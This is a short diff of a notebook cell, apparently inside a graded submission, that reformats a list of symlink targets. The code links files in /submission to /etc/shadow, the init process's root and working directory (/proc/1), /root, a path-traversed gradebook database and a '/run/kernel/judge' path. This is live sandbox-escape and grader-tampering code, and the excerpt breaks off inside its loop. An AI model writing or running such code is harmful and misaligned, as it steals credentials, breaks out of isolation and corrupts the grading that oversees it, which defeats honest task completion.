@@ -6,7 +6,15 @@
 # %% added after="setup"
 import os
 
-targets = ["/", "/etc/shadow", "/proc/1/root", "/proc/1/cwd", "../../../../gradebook.db", "/root", "/run/kernel/judge"]
+targets = [
+    "/",
+    "/etc/shadow",
+    "/proc/1/root",
+    "/proc/1/cwd",
+    "../../../../gradebook.db",
+    "/root",
+    "/run/kernel/judge",
+]
 for n, target in enumerate(targets):
     link = f"/submission/link{n}"
     try:
